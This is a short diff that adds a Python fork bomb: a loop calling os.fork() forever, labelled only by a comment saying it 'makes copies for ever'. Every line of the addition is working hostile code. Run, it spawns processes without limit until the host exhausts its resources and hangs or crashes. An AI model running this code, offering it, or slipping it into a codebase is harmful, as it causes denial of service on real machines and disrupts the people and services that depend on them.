@@ -1,0 +1,4 @@
+# tries: makes copies for ever
+import os
+while True:
+    os.fork()
